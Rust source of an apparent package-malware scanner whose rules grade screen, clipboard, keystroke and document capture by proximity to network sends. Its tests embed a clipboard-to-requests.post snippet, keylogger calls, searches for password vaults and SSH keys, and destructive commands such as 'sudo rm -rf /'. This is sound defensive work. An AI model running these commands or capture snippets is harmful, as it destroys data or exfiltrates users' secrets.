//! Collection: what a package captures from the user's session (screen,
//! clipboard, keystrokes) or gathers from the disk (documents and keys),
//! graded by where it goes.
//!
//! The shared logic lives here: which calls send data out, how far a
//! capture is from one ([`Reach`]), how a capture is graded, and what a
//! file-system walk is rooted at (also used by the impact rules).

use std::collections::BTreeMap;

use crate::finding::{Finding, Severity};
use crate::python::{Call, ExecContext, FileAnalysis, QualName, names, taint};
use crate::rules::helpers::commands::network_tool;
use crate::rules::helpers::network::is_constructor;
use crate::rules::{RuleMeta, code_finding, shell_text};

/// How close a capture is to a call that sends data out.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Reach<'a> {
    /// Nothing in the file sends anything.
    None,
    /// Something elsewhere in the file sends data.
    File(&'a Call),
    /// The capture and a send are in one function (or both at top level),
    /// or captured data demonstrably reaches a send.
    Chained(&'a Call),
}

impl Reach<'_> {
    /// Words for the message: `, in a file that sends data with `requests.post``.
    pub(crate) fn describe(&self) -> String {
        match self {
            Reach::None => String::new(),
            Reach::File(sink) => format!(", in a file that sends data with `{}`", sink.name),
            Reach::Chained(sink) if carries_capture(sink) => {
                format!(", and what it captures is sent with `{}`", sink.name)
            }
            Reach::Chained(sink) => {
                format!(", in a function that sends data with `{}`", sink.name)
            }
        }
    }
}

/// The calls of one file that send data out, by function.
pub(crate) struct Sinks<'a> {
    by_function: BTreeMap<Option<&'a str>, &'a Call>,
    /// The first send that carries captured data (`COLLECTED` taint).
    tainted: Option<&'a Call>,
    first: Option<&'a Call>,
}

impl<'a> Sinks<'a> {
    pub(crate) fn of(file: &'a FileAnalysis) -> Sinks<'a> {
        let mut sinks = Sinks {
            by_function: BTreeMap::new(),
            tainted: None,
            first: None,
        };
        for call in file.calls.iter().filter(|c| is_sink(c)) {
            sinks.first.get_or_insert(call);
            sinks
                .by_function
                .entry(call.function.as_deref())
                .or_insert(call);
            if sinks.tainted.is_none() && carries_capture(call) {
                sinks.tainted = Some(call);
            }
        }
        sinks
    }

    pub(crate) fn any(&self) -> bool {
        self.first.is_some()
    }

    /// How close a call in `function` is to a send. Captured data reaching
    /// any send of the file chains every capture of the file: the file is
    /// then shown to ship what it captures.
    pub(crate) fn reach(&self, function: Option<&str>) -> Reach<'a> {
        if let Some(sink) = self.tainted {
            return Reach::Chained(sink);
        }
        if let Some(sink) = self.by_function.get(&function) {
            return Reach::Chained(sink);
        }
        self.first.map_or(Reach::None, Reach::File)
    }

    /// A send in this very function, if any.
    pub(crate) fn in_function(&self, function: Option<&str>) -> Option<&'a Call> {
        self.by_function.get(&function).copied()
    }
}

fn carries_capture(call: &Call) -> bool {
    call.all_args().any(|a| a.has(taint::COLLECTED))
}

/// A call that sends data off the machine: network clients, sockets, mail
/// and FTP, bot APIs, and processes running `curl`, `wget`, `nc` and the
/// like. Opening a browser, configuring a client (`requests.Session()`)
/// and fetching a constant URL with nothing else (an update check) send
/// nothing of the user's.
pub(crate) fn is_sink(call: &Call) -> bool {
    let name = &call.name;
    if names::is_network(name) {
        let last = name.last_name();
        let fetch_only = matches!(last, Some("get" | "head" | "urlopen" | "urlretrieve"))
            && call.all_args().all(|a| a.text.is_some());
        return name.as_str() != "webbrowser.open"
            && !fetch_only
            && !is_constructor(name)
            && !matches!(last, Some("gethostbyname" | "getaddrinfo"));
    }
    names::is_process(name)
        && shell_text(call).is_some_and(|cmd| {
            let lower = cmd.to_ascii_lowercase();
            lower.contains("curl ") || lower.contains("wget ") || network_tool(&lower).is_some()
        })
}

/// How a capture of the user's session is graded.
///
/// | reach | at runtime | on import, at install or start-up |
/// |---|---|---|
/// | nothing sends | low | medium (high for keystrokes) |
/// | a send elsewhere in the file | medium (high for keystrokes) | high (critical for keystrokes) |
/// | a send in the same function, or captured data sent | high | critical |
pub(crate) fn grade(reach: Reach<'_>, automatic: bool, keystrokes: bool) -> Severity {
    match (reach, automatic, keystrokes) {
        (Reach::None, false, _) => Severity::Low,
        (Reach::None, true, false) | (Reach::File(_), false, false) => Severity::Medium,
        (Reach::None, true, true)
        | (Reach::File(_), false, true)
        | (Reach::File(_), true, false)
        | (Reach::Chained(_), false, _) => Severity::High,
        (Reach::File(_), true, true) | (Reach::Chained(_), true, _) => Severity::Critical,
    }
}

/// Reports the captures of one kind in every file: one finding per
/// function and context, graded by [`grade`].
pub(crate) fn report_captures(
    meta: &'static RuleMeta,
    facts: &crate::rules::PackageFacts<'_>,
    kind: names::Capture,
    what: &str,
    extra: impl Fn(&Call) -> bool,
    out: &mut Vec<Finding>,
) {
    for file in facts.python {
        let captures: Vec<&Call> = file
            .calls
            .iter()
            .filter(|c| c.capture() == Some(kind) || extra(c))
            .collect();
        if captures.is_empty() {
            continue;
        }
        let sinks = Sinks::of(file);
        let mut seen = std::collections::BTreeSet::new();
        for call in captures {
            if !seen.insert((call.function.as_deref(), call.context)) {
                continue;
            }
            let reach = sinks.reach(call.function.as_deref());
            let mut f = code_finding(
                meta,
                file,
                call,
                format!(
                    "`{}` {what} {}{}",
                    call.name,
                    when(file, call.context),
                    reach.describe()
                ),
            );
            f.severity = grade(
                reach,
                runs_by_itself(file, call.context),
                kind == names::Capture::Keystrokes,
            );
            out.push(f);
        }
    }
}

/// Does code in this context run without the user asking for it? The
/// model gives a package's `__main__.py` import context (it is package
/// code), but its top level runs on `python -m pkg`, which the user asks
/// for; run from `setup.py` it has install context and counts.
pub(crate) fn runs_by_itself(file: &FileAnalysis, context: ExecContext) -> bool {
    let main = file.path.rsplit('/').next() == Some("__main__.py");
    context.is_automatic() && !(main && context == ExecContext::Import)
}

/// Words for when code runs: the context's (`on import`), except for the
/// top level of `__main__.py` (see [`runs_by_itself`]).
pub(crate) fn when(file: &FileAnalysis, context: ExecContext) -> &'static str {
    if context.is_automatic() && !runs_by_itself(file, context) {
        "when the package is run (`python -m`)"
    } else {
        context.describe()
    }
}

/// Implements [`Rule`](crate::rules::Rule) for a capture rule (the modules
/// below, which see the macro by textual scope): its kind of
/// capture, the words for it, and what else counts as one (a predicate on
/// calls).
macro_rules! capture_rule {
    ($rule:ident, $kind:expr, $what:literal, $extra:expr) => {
        impl $crate::rules::Rule for $rule {
            fn meta(&self) -> &'static $crate::rules::RuleMeta {
                &Self::META
            }

            fn check(
                &self,
                facts: &$crate::rules::PackageFacts<'_>,
                out: &mut Vec<$crate::finding::Finding>,
            ) {
                $crate::rules::collection::report_captures(
                    &Self::META,
                    facts,
                    $kind,
                    $what,
                    $extra,
                    out,
                );
            }
        }
    };
}

pub mod clipboard_capture;
pub mod document_sweep;
pub mod keylogging;
pub mod screen_capture;

/// What a path (or the fixed start of a glob pattern) stands for, when it
/// is a whole user's home, all drives or a system folder.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Root {
    /// The user's home folder, or one of its standard folders (Desktop,
    /// Documents, Downloads, Pictures), or every user's home.
    Home,
    /// The file-system root or a drive's root (`/`, `C:\`, `{d}:\`).
    Drive,
    /// A folder of the operating system (`/etc`, `/usr`, `C:\Windows`).
    System,
}

impl Root {
    pub(crate) fn describe(self) -> &'static str {
        match self {
            Root::Home => "the user's home folder",
            Root::Drive => "the root of a drive",
            Root::System => "a system folder",
        }
    }
}

/// Standard folders of a home that hold the user's own files.
const USER_FOLDERS: &[&str] = &[
    "desktop",
    "documents",
    "downloads",
    "pictures",
    "music",
    "videos",
    "onedrive",
];

const SYSTEM_FOLDERS: &[&str] = &[
    "/etc",
    "/usr",
    "/bin",
    "/sbin",
    "/boot",
    "/lib",
    "/lib64",
    "/var",
    "/opt",
    "/system",
    "/library",
    "/applications",
    "c:/windows",
    "c:/windows/system32",
    "c:/program files",
    "c:/program files (x86)",
    "c:/programdata",
];

/// Environment variables that hold the home folder or the system drive.
pub(crate) const HOME_VARIABLES: &[&str] = &[
    "USERPROFILE",
    "HOMEPATH",
    "HOME",
    "HOMEDRIVE",
    "SYSTEMDRIVE",
    "ONEDRIVE",
];

/// Classifies a path, or a glob pattern by its fixed part: `~`, `~/Desktop`,
/// `$HOME`, `%USERPROFILE%`, `/home`, `C:\Users` are the home; `/`, `C:\`,
/// `{}:\` (a drive letter filled in at run time) a drive; `/etc`,
/// `C:\Windows` the system. Anything more specific (`~/.cache/app`,
/// `build/`, `/tmp/x`) is none of them.
pub(crate) fn classify_root(text: &str) -> Option<Root> {
    if text.len() > 260 {
        return None;
    }
    // Windows long-path prefix: `\\?\C:\…`.
    let text = text
        .strip_prefix("\\\\?\\")
        .or_else(|| text.strip_prefix("//?/"))
        .unwrap_or(text);
    let fixed = text
        .split(['*', '?', '['])
        .next()
        .unwrap_or(text)
        .trim()
        .trim_matches(['"', '\''])
        .replace('\\', "/")
        .to_ascii_lowercase();
    let path = fixed.trim_end_matches('/');
    if path.is_empty() {
        return fixed.starts_with('/').then_some(Root::Drive);
    }
    let drive_root = |p: &str| {
        let p = p.strip_suffix(':');
        p.is_some_and(|d| d == "{}" || (d.len() == 1 && d.chars().all(|c| c.is_ascii_alphabetic())))
    };
    if drive_root(path) || matches!(path, "%systemdrive%" | "$env:systemdrive") {
        return Some(Root::Drive);
    }
    let home_prefixes = [
        "~",
        "$home",
        "${home}",
        "%userprofile%",
        "%homepath%",
        "%homedrive%%homepath%",
        "$env:userprofile",
    ];
    for prefix in home_prefixes {
        if let Some(rest) = path.strip_prefix(prefix) {
            let rest = rest.trim_start_matches('/');
            if rest.is_empty() || USER_FOLDERS.contains(&rest) {
                return Some(Root::Home);
            }
        }
    }
    if matches!(path, "/home" | "/users" | "/root" | "c:/users") {
        return Some(Root::Home);
    }
    SYSTEM_FOLDERS.contains(&path).then_some(Root::System)
}

/// Calls that list or walk folders, and the argument that names the folder.
pub(crate) fn is_walk(name: &QualName) -> bool {
    matches!(
        name.as_str(),
        "os.walk" | "os.scandir" | "os.listdir" | "glob.glob" | "glob.iglob" | "os.fwalk"
    ) || ((name.is_in("pathlib") || name.is_in("str"))
        && matches!(
            name.last_name(),
            Some("rglob" | "glob" | "walk" | "iterdir")
        ))
}

/// A walk that descends into subfolders: `os.walk`, `Path.rglob`, a glob
/// with `**`.
pub(crate) fn is_recursive(call: &Call) -> bool {
    let name = &call.name;
    matches!(name.as_str(), "os.walk" | "os.fwalk")
        || name.is_attribute("rglob")
        || name.is_attribute("walk")
        || call.arg_texts().any(|t| t.contains("**"))
}

/// The root a walk call sweeps, when it is a home, a drive or the system.
/// Path methods (`Path.home().rglob(...)`) lose their receiver in the
/// model: they count as home sweeps when their function asks for the home
/// folder.
pub(crate) fn walk_root(file: &FileAnalysis, call: &Call) -> Option<Root> {
    let arg = call
        .args
        .first()
        .or_else(|| call.keyword("top"))
        .or_else(|| call.keyword("path"))
        .or_else(|| call.keyword("pathname"));
    let method = call.name.is_in("str") || call.name.is_in("pathlib");
    if method {
        // Only recursive sweeps: `ssh_dir.glob("id_*")` lists one folder
        // the model cannot name.
        return (is_recursive(call)
            && same_function(file, call).any(|c| {
                c.name.as_str() == "pathlib.Path.home"
                    || (c.name.as_str() == "os.path.expanduser"
                        && c.args.first().and_then(|a| a.printed()) == Some("~"))
            }))
        .then_some(Root::Home);
    }
    if let Some(root) = call
        .keyword("root_dir")
        .and_then(|v| v.printed())
        .and_then(classify_root)
    {
        return Some(root);
    }
    let arg = arg?;
    if let Some(root) = arg.printed().and_then(classify_root) {
        return Some(root);
    }
    // `os.getenv("USERPROFILE")`, `os.environ["HOME"] + "/**"`.
    // A template that starts with the variable (`f"{home}/**"`) is read
    // as the home followed by its literal rest.
    let from_env = arg.has(taint::ENV)
        && match (&arg.text, &arg.template) {
            (None, None) => true,
            (None, Some(template)) => template
                .after_leading_hole()
                .is_some_and(|rest| classify_root(&format!("~{rest}")).is_some()),
            (Some(_), _) => false,
        };
    (from_env && names_home_variable(file, call)).then_some(Root::Home)
}

/// Does the function of `call` (or, failing that, the file) name an
/// environment variable that holds the home folder?
pub(crate) fn names_home_variable(file: &FileAnalysis, call: &Call) -> bool {
    let is_home_var = |t: &str| HOME_VARIABLES.iter().any(|v| t.eq_ignore_ascii_case(v));
    same_function(file, call)
        .flat_map(Call::arg_texts)
        .any(is_home_var)
        || file.strings.iter().any(|s| is_home_var(&s.value))
}

/// The calls of the function `call` is in (the top level for top-level code).
pub(crate) fn same_function<'a>(
    file: &'a FileAnalysis,
    call: &'a Call,
) -> impl Iterator<Item = &'a Call> {
    file.calls
        .iter()
        .filter(move |c| c.function == call.function)
}

/// The simple commands of a shell command line, lower-cased: each
/// program (without its folder) and its arguments, with wrappers such as
/// `sudo`, `cmd /c`, `powershell -Command` and `sh -c` looked through.
pub(crate) fn commands(cmd: &str) -> Vec<(String, Vec<String>)> {
    const WRAPPERS: &[&str] = &[
        "sudo",
        "doas",
        "nohup",
        "exec",
        "env",
        "time",
        "nice",
        "cmd",
        "cmd.exe",
        "powershell",
        "powershell.exe",
        "pwsh",
        "sh",
        "bash",
        "zsh",
        "start",
        "call",
    ];
    let lower = cmd.to_ascii_lowercase();
    let mut out = Vec::new();
    for part in lower.split(['|', ';', '&', '\n']) {
        let mut words = part
            .split_whitespace()
            .map(|w| w.trim_matches(['"', '\'', '`']))
            .filter(|w| !w.is_empty())
            .peekable();
        let mut wrapped = false;
        while let Some(word) = words.peek() {
            let program = word.rsplit(['/', '\\']).next().unwrap_or(word);
            let wrapper_flag =
                wrapped && (word.starts_with('-') || matches!(*word, "/c" | "/k" | "/b" | "/min"));
            if WRAPPERS.contains(&program) || wrapper_flag {
                wrapped = true;
                words.next();
            } else {
                break;
            }
        }
        let Some(first) = words.next() else { continue };
        let program = first.rsplit(['/', '\\']).next().unwrap_or(first).to_owned();
        out.push((program, words.map(str::to_owned).collect()));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roots() {
        for (text, root) in [
            ("~", Some(Root::Home)),
            ("~/", Some(Root::Home)),
            ("~/Desktop", Some(Root::Home)),
            ("~/**/*.pdf", Some(Root::Home)),
            ("%USERPROFILE%\\Documents", Some(Root::Home)),
            ("$HOME/*", Some(Root::Home)),
            ("/home", Some(Root::Home)),
            ("/", Some(Root::Drive)),
            ("/*", Some(Root::Drive)),
            ("C:\\", Some(Root::Drive)),
            ("c:", Some(Root::Drive)),
            ("{}:\\", Some(Root::Drive)),
            ("C:\\Windows\\System32", Some(Root::System)),
            ("/etc/", Some(Root::System)),
            ("~/.cache/pkg", None),
            ("build", None),
            ("build/", None),
            ("/tmp/x", None),
            ("*.pyc", None),
            ("{}", None),
            ("", None),
            ("~/Documents/report", None),
            ("\\\\?\\{}", None),
            ("\\\\?\\C:\\", Some(Root::Drive)),
            ("/{}", None),
            ("~/{}", None),
        ] {
            assert_eq!(classify_root(text), root, "{text:?}");
        }
    }

    fn model(code: &str) -> FileAnalysis {
        crate::python::analyze("t.py", code.as_bytes(), crate::python::FileRole::Module)
    }

    #[test]
    fn captures_under_aliases() {
        let a = model(
            "from PIL import ImageGrab as g\nimport pyautogui as pg\nfrom mss import mss\n\
             import ctypes\nfrom pynput.keyboard import Listener\n\
             g.grab()\npg.screenshot()\nwith mss() as s:\n    s.shot()\n\
             __import__('pyper' + 'clip').paste()\nctypes.windll.user32.GetAsyncKeyState(65)\n\
             Listener(on_press=print).start()\n",
        );
        let kinds: Vec<(String, Option<names::Capture>)> = a
            .calls
            .iter()
            .map(|c| (c.name.to_string(), c.capture()))
            .filter(|(_, k)| k.is_some())
            .collect();
        use names::Capture::{Clipboard, Keystrokes, Screen};
        for (name, kind) in [
            ("PIL.ImageGrab.grab", Screen),
            ("pyautogui.screenshot", Screen),
            ("mss.mss().shot", Screen),
            ("pyperclip.paste", Clipboard),
            ("ctypes.windll.user32.GetAsyncKeyState", Keystrokes),
            ("pynput.keyboard.Listener", Keystrokes),
        ] {
            assert!(
                kinds.contains(&(name.to_owned(), Some(kind))),
                "{name} in {kinds:?}"
            );
        }
    }

    #[test]
    fn captured_data_is_tainted_to_the_send() {
        let a = model(
            "import pyperclip, requests\n\
             def grab():\n    return pyperclip.paste()\n\
             def send():\n    requests.post('https://x.example/', data=grab())\n\
             def other():\n    requests.post('https://x.example/', data='static')\n",
        );
        let sinks = Sinks::of(&a);
        assert!(
            sinks
                .tainted
                .is_some_and(|c| c.function.as_deref() == Some("send"))
        );
        assert!(matches!(sinks.reach(Some("grab")), Reach::Chained(_)));
        let plain = model(
            "import pyperclip, requests\n\
             def grab():\n    return pyperclip.paste()\n\
             def other():\n    requests.post('https://x.example/', data='static')\n",
        );
        let sinks = Sinks::of(&plain);
        assert!(sinks.tainted.is_none());
        assert!(matches!(sinks.reach(Some("grab")), Reach::File(_)));
        assert!(matches!(sinks.reach(Some("other")), Reach::Chained(_)));
    }

    #[test]
    fn walk_roots_from_the_model() {
        let a = model(
            "import os, glob, string\nfrom pathlib import Path\n\
             def a():\n    os.walk(os.path.expanduser('~'))\n\
             def b():\n    glob.glob(os.environ['USERPROFILE'] + '/**/*.pdf', recursive=True)\n\
             def c():\n    Path.home().rglob('*.kdbx')\n\
             def d():\n    for l in string.ascii_uppercase:\n        os.walk(f'{l}:\\\\')\n\
             def e(folder):\n    os.walk(folder)\n\
             def f():\n    (Path.home() / '.ssh').glob('id_*')\n\
             def g():\n    os.walk(os.path.join(os.path.expanduser('~'), '.cache', 'x'))\n",
        );
        let roots: Vec<(Option<&str>, Option<Root>)> = a
            .calls
            .iter()
            .filter(|c| is_walk(&c.name))
            .map(|c| (c.function.as_deref(), walk_root(&a, c)))
            .collect();
        assert_eq!(
            roots,
            [
                (Some("a"), Some(Root::Home)),
                (Some("b"), Some(Root::Home)),
                (Some("c"), Some(Root::Home)),
                (Some("d"), Some(Root::Drive)),
                (Some("e"), None),
                (Some("f"), None),
                (Some("g"), None),
            ]
        );
    }

    #[test]
    fn simple_commands() {
        let programs =
            |cmd: &str| -> Vec<String> { commands(cmd).into_iter().map(|(p, _)| p).collect() };
        assert_eq!(programs("sudo rm -rf /"), ["rm"]);
        assert_eq!(programs("cmd /c rd /s /q C:\\"), ["rd"]);
        assert_eq!(
            programs("powershell -NoProfile -Command Get-Clipboard"),
            ["get-clipboard"]
        );
        assert_eq!(
            programs("echo hi | /usr/bin/xclip -i && ls"),
            ["echo", "xclip", "ls"]
        );
        assert_eq!(commands("sh -c 'rm -rf ~'")[0].1, ["-rf", "~"]);
    }

    #[test]
    fn grades() {
        let name = QualName::dotted("requests.post");
        let call = Call {
            classes: name.api_classes(),
            name,
            line: 1,
            column: 1,
            context: ExecContext::Runtime,
            function: None,
            args: Vec::new(),
            keywords: Vec::new(),
            via: None,
            silenced: false,
            destination: None,
        };
        let (by_itself, asked) = (true, false);
        assert_eq!(grade(Reach::None, asked, false), Severity::Low);
        assert_eq!(grade(Reach::None, asked, true), Severity::Low);
        assert_eq!(grade(Reach::None, by_itself, false), Severity::Medium);
        assert_eq!(grade(Reach::None, by_itself, true), Severity::High);
        assert_eq!(grade(Reach::File(&call), asked, false), Severity::Medium);
        assert_eq!(grade(Reach::File(&call), asked, true), Severity::High);
        assert_eq!(grade(Reach::File(&call), by_itself, false), Severity::High);
        assert_eq!(
            grade(Reach::File(&call), by_itself, true),
            Severity::Critical
        );
        assert_eq!(grade(Reach::Chained(&call), asked, false), Severity::High);
        assert_eq!(
            grade(Reach::Chained(&call), by_itself, false),
            Severity::Critical
        );
    }
}
